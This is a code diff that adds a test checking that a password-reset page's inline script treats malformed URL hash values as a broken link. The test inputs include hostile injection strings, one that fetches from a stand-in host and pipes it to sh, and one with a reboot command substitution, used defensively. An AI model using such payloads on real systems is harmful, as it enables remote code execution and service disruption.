@@ -119,6 +119,16 @@ describe("the pages", () => {
     expect(Object.keys(others).every((name) => ["password", "name"].includes(name))).toBe(true)
   })
 
+  it("error: a link that is no link of ours becomes no command", async () => {
+    const { text } = await textOf("/reset")
+    const script = /<script>([\s\S]*)<\/script>/.exec(text)![1]!
+    for (const hash of ["", "#x", "#x';{curl,-s,//evil.example}|sh;'", "#a.b.c.d", "#a.b.$(reboot)"]) {
+      const shown = { textContent: "" }
+      runInNewContext(script, { document: { querySelector: () => shown }, location: { hash, origin: "https://x" } })
+      expect([hash, shown.textContent]).toEqual([hash, "This link is not whole: open it again from the mail."])
+    }
+  })
+
   it("/ leads to all of them", async () => {
     const { text } = await textOf("/")
     for (const path of ["/docs", "/docs/errors", "/openapi.json", "/health/ready"]) {
